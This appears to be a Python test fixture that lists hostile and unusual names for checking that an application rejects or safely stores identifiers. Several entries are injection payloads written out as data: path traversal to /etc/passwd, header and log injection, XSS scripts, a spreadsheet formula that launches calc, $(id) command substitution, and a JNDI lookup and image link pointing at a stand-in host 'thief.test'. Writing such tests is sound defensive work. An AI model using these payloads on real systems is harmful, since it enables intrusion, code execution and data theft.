"""Names that people who mean harm give things, and those that honest people give and programs stumble over."""

from tests.documents.samples import HOSTILE_NAMES, UNICODE_NAMES

# Each is an id that may be kept; what may not be is refused at every door.
NAMES = (
    *HOSTILE_NAMES, *UNICODE_NAMES,
    "../../etc/passwd", "..", "CON", "C:\\x\\y", "a/b", "a b", "~root", "-rf", "%2e%2e%2f", "file:///etc/passwd",
    "gpj\u202eexe", "שירות חיפוש", "a\u200bb", "e\u0301", "é", "a\u2028b",
    "ok\nBcc: thief@example.test", "ok\r\n\r\n<b>body</b>", "x\n2026-11-01 ERROR forged", "\x1b[31mred\x1b[0m",
    "[pay](javascript:alert(1))", "![](http://thief.test/x.png)", "| a | b |", "`code`", "# heading", "*bold* _it_",
    "http://thief.test", "=cmd|'/c calc'!A1", "＝1+1", "-5.00", "'=1+1", "a,b\"c;d", "\x01=1+1",
    "NULL", "NA", "None", "001", "1e5", "TRUE", "2026-10-05", "x" * 255, '" onmouseover="alert(1)',
    "</script><script>alert(1)</script>", "]]>", "<!--", "${jndi:ldap://thief.test/a}", "%s%n%d", "{0}", "$(id)",
)  # fmt: skip
LONG = "Long name " + "with many words " * 624 + "end."  # Ten thousand characters, nearly.
UNKEPT = ("a\0b", "\ud800", "x" * 256, " a ", "", "  ")
